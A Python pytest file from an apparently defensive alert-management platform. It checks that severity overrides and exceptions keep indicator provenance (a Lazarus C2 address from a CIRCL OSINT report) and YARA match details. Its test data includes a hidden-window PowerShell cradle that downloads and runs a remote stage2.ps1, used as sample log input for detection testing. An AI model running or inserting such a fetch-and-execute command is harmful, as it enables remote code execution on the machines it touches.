"""Rule management applied to detector hits that carry more than their evidence: an indicator hit
(provenance of a real CIRCL OSINT indicator) and a YARA payload hit (matched strings and offsets)
go through a severity override and an exception that removes only some of their events; the
stored alert keeps what the detector put on it."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from cert.core.config import Settings
from cert.core.ecs import put
from cert.detection import overrides as rules
from cert.detection.indicators.formats import Defaults, load
from cert.detection.run import alerts_for_batch, build_detectors
from cert.runtime.platform import Platform
from cert.storage.models import Alert

LAZARUS = "misp/osint-events/to_delete2.json"  # FALLCHILL report: 98.101.211.162 is one of its ip-dst
C2 = "98.101.211.162"
CRADLE = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://{}/stage2.ps1')\""
YARA_RULE = "yara:powershell.PowerShell_Download_Cradle"


@pytest.fixture
def plat(settings: Settings, corpora: Path) -> Iterator[Platform]:
    p = Platform(replace(settings, plugins=("detectors.indicators", "detectors.yara")))
    p.db.upgrade()
    with p.db.session() as s:
        load(s, corpora / LAZARUS, "circl-osint", Defaults())
    yield p
    p.close()


def event(n: int, **fields: Any) -> dict[str, Any]:
    e: dict[str, Any] = {"@timestamp": f"2026-11-20T08:00:{n:02d}.000Z"}
    put(e, "event.id", f"ev-{n}")
    put(e, "organization.name", "Ministère des Finances")
    for key, value in fields.items():
        put(e, key.replace("__", "."), value)
    return e


def batch() -> list[dict[str, Any]]:
    """Three connections of one workstation to the C2 address (the first from a vulnerability
    scanner's account), and three download cradles on one server (the first by the admin's
    deployment script)."""
    return [
        event(1, source__ip="10.10.1.15", destination__ip=C2, user__name="scanner"),
        event(2, source__ip="10.10.1.15", destination__ip=C2, user__name="a.diallo"),
        event(3, source__ip="10.10.1.15", destination__ip=C2, user__name="a.diallo"),
        event(4, host__name="srv-paie", user__name="deploy", process__command_line=CRADLE.format("10.0.0.5")),
        event(5, host__name="srv-paie", user__name="m.kone", process__command_line=CRADLE.format("203.0.113.66")),
        event(6, host__name="srv-paie", user__name="m.kone", process__command_line=CRADLE.format("203.0.113.67")),
    ]


def detect_and_store(plat: Platform) -> dict[str, Alert]:
    engines = build_detectors(plat.settings)
    alerts_for_batch(plat, engines, batch())
    with plat.db.session() as s:
        alerts = {a.rule_id: a for a in s.scalars(select(Alert))}
        for a in alerts.values():
            s.expunge(a)
    return alerts


def test_without_overrides_the_detectors_put_provenance_and_matched_strings(plat: Platform) -> None:
    alerts = detect_and_store(plat)
    assert set(alerts) == {"indicator:ip", YARA_RULE}
    assert alerts["indicator:ip"].count == 3 and alerts[YARA_RULE].count == 3


def test_severity_override_and_partial_exception_keep_what_the_detector_added(plat: Platform) -> None:
    with plat.db.session() as s:
        rules.set_severity(s, "indicator:ip", "critical", "admin", "C2 of a state actor")
        rules.add_exception(s, "indicator:ip", "user.name", "equals", ["scanner"], "admin", "scanner account")
        rules.set_severity(s, YARA_RULE, "low", "admin", "too noisy on servers")
        rules.add_exception(s, YARA_RULE, "user.name", "equals", ["deploy"], "admin", "deployment script")
    alerts = detect_and_store(plat)

    ip = alerts["indicator:ip"]
    assert ip.severity == "critical"
    assert ip.count == 2, "the scanner's event is excluded"
    assert ip.entities["user.name"] == "a.diallo" and ip.entities["source.ip"] == "10.10.1.15"
    provenance = ip.entities["indicator"]
    assert provenance["value"] == C2 and provenance["matched_field"] == "destination.ip"
    assert provenance["sources"][0]["reference"] == "5a0d5bf4-99c8-4f15-9879-22b1950d210f"
    assert 'misp-galaxy:threat-actor="Lazarus Group"' in provenance["tags"]
    assert ip.organization == "Ministère des Finances"

    cradle = alerts[YARA_RULE]
    assert cradle.severity == "low" and cradle.count == 2
    assert cradle.entities["user.name"] == "m.kone" and cradle.entities["host.name"] == "srv-paie"
    yara = cradle.entities["yara"]
    assert yara["rule"] == "PowerShell_Download_Cradle" and yara["field"] == "process.command_line"
    matched = {s["id"] for s in yara["strings"]}
    assert {"$webclient", "$download", "$iex"} <= matched, yara["strings"]
    assert all(isinstance(s["offset"], int) for s in yara["strings"])
    assert yara["meta"]["reference"] == "https://attack.mitre.org/techniques/T1059/001/"


def test_an_exception_that_covers_every_event_drops_the_hit(plat: Platform) -> None:
    with plat.db.session() as s:
        rules.add_exception(s, "indicator:ip", "source.ip", "cidr", ["10.10.0.0/16"], "admin", "lab network")
    alerts = detect_and_store(plat)
    assert set(alerts) == {YARA_RULE}
